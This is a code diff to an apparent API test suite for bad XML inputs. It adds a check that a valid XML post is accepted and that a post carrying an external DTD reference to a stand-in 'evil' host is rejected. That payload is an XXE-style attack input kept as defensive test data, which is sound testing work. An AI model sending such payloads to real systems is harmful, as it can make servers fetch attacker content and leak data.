@@ -53,7 +53,10 @@ async function write(value: unknown): Promise<string> {
 }
 
 testBadInputs('xml', {
-  'xml-002': () => expectPost(400, '<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>'),
+  'xml-002': async () => {
+    await expectPost(201, '<User><name>Ann</name></User>')
+    await expectPost(400, '<!DOCTYPE a SYSTEM "http://evil/x.dtd"><User><name>Ann</name></User>')
+  },
   'xml-004': () =>
     expectPost(
       400,
